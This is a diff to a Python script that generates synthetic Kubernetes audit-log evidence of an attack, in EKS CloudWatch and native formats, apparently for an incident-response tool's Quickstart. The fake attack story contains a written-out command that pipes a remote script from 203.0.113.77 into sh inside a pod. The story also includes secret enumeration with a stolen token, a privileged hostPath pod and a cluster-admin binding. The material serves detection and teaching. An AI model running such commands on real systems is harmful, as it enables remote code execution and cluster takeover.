@@ -1,9 +1,19 @@
-"""Write the bundled example evidence (a small, synthetic attack told in native audit events).
+"""Write the bundled example evidence: a small, synthetic attack told in Kubernetes audit
+events, in two provider formats.
 
-Run ``python examples/make_examples.py`` to regenerate ``examples/audit/native-attack.jsonl``;
-the file is committed so that the Quickstart needs nothing else. The story: a web pod's
-service-account token is stolen and used from outside the cluster to enumerate secrets,
-exec into a pod, start a privileged hostPath pod, bind cluster-admin, and delete events.
+Run ``python examples/make_examples.py`` to regenerate ``examples/audit/``; the files are
+committed so that the Quickstart needs nothing else. The story: the ``payments`` pod runs the
+compromised image of ``compromised_image.py``; a web pod's service-account token is stolen
+and used from outside the cluster to enumerate secrets, exec into the payments pod, start a
+privileged hostPath pod, bind cluster-admin, and delete events.
+
+Two formats, as a responder gets them from an EKS cluster: the first part of the story as
+exported from CloudWatch Logs (``aws logs filter-log-events`` JSON, ``eks-attack.json``), the
+rest from the API server's log backend (JSON lines, ``native-attack.jsonl``). The exec is in
+both (the exports overlap), which the audit reader deduplicates.
+
+``live_logs()`` writes the same story re-timed around an exec that really happened in a live
+container (``live.py``), with the command that was really run.
 """
 
 from __future__ import annotations
@@ -79,19 +89,34 @@ def exec_uri(ns: str, pod: str, command: list[str], container: str) -> str:
     return f"/api/v1/namespaces/{ns}/pods/{pod}/exec?{q}&container={container}&stdin=true&stdout=true&tty=true"
 
 
-def story() -> list[dict[str, object]]:
+POD = "payments-5d8f7b9c4-kq2rz"
+EXEC_AT = 120.0
+OFFLINE_COMMAND = ["sh", "-c", "curl -s http://203.0.113.77/x.sh | sh"]
+IMAGE = "registry.example.com/shop/payments:1.4.2"
+
+
+def story(command: list[str] | None = None, image: str = IMAGE) -> list[dict[str, object]]:
+    global _n
+    _n = 0
+    command = command or OFFLINE_COMMAND
     evs = [
         # Background noise: the kubelet and a controller doing their jobs.
         event(0, "get", "/api/v1/nodes/ip-10-0-3-17.ec2.internal", {"resource": "nodes", "name": "ip-10-0-3-17.ec2.internal", "apiVersion": "v1"},
               user="system:node:ip-10-0-3-17.ec2.internal", ip="10.0.3.17", agent="kubelet/v1.31.2"),
+        # The payments pod, created by its ReplicaSet from the (already poisoned) image.
+        event(5, "create", "/api/v1/namespaces/shop/pods", {"resource": "pods", "namespace": "shop", "name": POD, "apiVersion": "v1"}, code=201,
+              user="system:serviceaccount:kube-system:replicaset-controller", ip="10.0.0.10",
+              agent="kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/5864a46/system:serviceaccount:kube-system:replicaset-controller",
+              request={"apiVersion": "v1", "kind": "Pod", "metadata": {"name": POD, "namespace": "shop", "labels": {"app": "payments"}},
+                       "spec": {"containers": [{"name": "app", "image": image}]}}),
         # Discovery with the stolen token, from outside the cluster.
         event(60, "create", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", {"resource": "selfsubjectrulesreviews", "apiGroup": "authorization.k8s.io", "apiVersion": "v1"}, code=201),
         event(61, "list", "/api/v1/namespaces/shop/secrets", {"resource": "secrets", "namespace": "shop", "apiVersion": "v1"}),
         event(62, "list", "/api/v1/secrets", {"resource": "secrets", "apiVersion": "v1"}, code=403, decision="forbid"),
         event(63, "get", "/api/v1/namespaces/shop/secrets/db-credentials", {"resource": "secrets", "namespace": "shop", "name": "db-credentials", "apiVersion": "v1"}),
         # Exec into the payment pod (kubectl >= 1.30 logs the WebSocket exec as verb get).
-        event(120, "get", exec_uri("shop", "payments-5d8f7b9c4-kq2rz", ["sh", "-c", "curl -s http://203.0.113.77/x.sh | sh"], "app"),
-              {"resource": "pods", "namespace": "shop", "name": "payments-5d8f7b9c4-kq2rz", "subresource": "exec", "apiVersion": "v1"},
+        event(EXEC_AT, "get", exec_uri("shop", POD, command, "app"),
+              {"resource": "pods", "namespace": "shop", "name": POD, "subresource": "exec", "apiVersion": "v1"},
               code=101, stage="ResponseStarted"),
         # A privileged pod with the node's filesystem mounted: an escape to the node.
         event(180, "create", "/api/v1/namespaces/shop/pods", {"resource": "pods", "namespace": "shop", "name": "debug-tools", "apiVersion": "v1"}, code=201,
@@ -111,13 +136,48 @@ def story() -> list[dict[str, object]]:
     return evs
 
 
-def main() -> None:
-    out = Path(__file__).with_name("audit") / "native-attack.jsonl"
-    out.parent.mkdir(exist_ok=True)
-    with out.open("w") as fh:
-        for ev in story():
+def eks_envelope(events: list[dict[str, object]]) -> dict[str, object]:
+    """``aws logs filter-log-events --log-group-name /aws/eks/shop-prod/cluster`` output: each
+    CloudWatch event's ``message`` is one native Event as a JSON string."""
+    stream = "kube-apiserver-audit-4c8a1d2e9f0b7a6c5d4e3f2a1b0c9d8e"
+    out = []
+    for i, ev in enumerate(events):
+        t = datetime.strptime(str(ev["stageTimestamp"]), "%Y-%m-%dT%H:%M:%S.%fZ").replace(tzinfo=UTC)
+        ms = int(t.timestamp() * 1000)
+        out.append({"logStreamName": stream, "timestamp": ms,
+                    "message": json.dumps(ev, separators=(",", ":")),
+                    "ingestionTime": ms + 2300, "eventId": f"{38000000000000000000000000 + ms * 1000 + i}"})
+    return {"events": out, "searchedLogStreams": [{"logStreamName": stream, "searchedCompletely": True}]}
+
+
+def write(out_dir: Path, events: list[dict[str, object]]) -> list[Path]:
+    """Events up to and including the exec go to the EKS export; the exec and everything
+    after it to the native log (the exec is in both: the exports overlap)."""
+    out_dir.mkdir(parents=True, exist_ok=True)
+    exec_index = next(i for i, ev in enumerate(events) if "/exec?" in str(ev["requestURI"]))
+    eks = out_dir / "eks-attack.json"
+    eks.write_text(json.dumps(eks_envelope(events[: exec_index + 1]), indent=1) + "\n")
+    native = out_dir / "native-attack.jsonl"
+    with native.open("w") as fh:
+        for ev in events[exec_index:]:
             fh.write(json.dumps(ev, separators=(",", ":")) + "\n")
-    print(f"wrote {out}")
+    return [eks, native]
+
+
+def live_logs(out_dir: Path, exec_time: datetime, command: list[str], image: str = IMAGE) -> list[Path]:
+    """The story re-timed so that its exec is at ``exec_time`` with ``command``."""
+    global T0
+    saved = T0
+    T0 = exec_time - timedelta(seconds=EXEC_AT)
+    try:
+        return write(out_dir, story(command, image))
+    finally:
+        T0 = saved
+
+
+def main() -> None:
+    for path in write(Path(__file__).with_name("audit"), story()):
+        print(f"wrote {path}")
 
 
 if __name__ == "__main__":
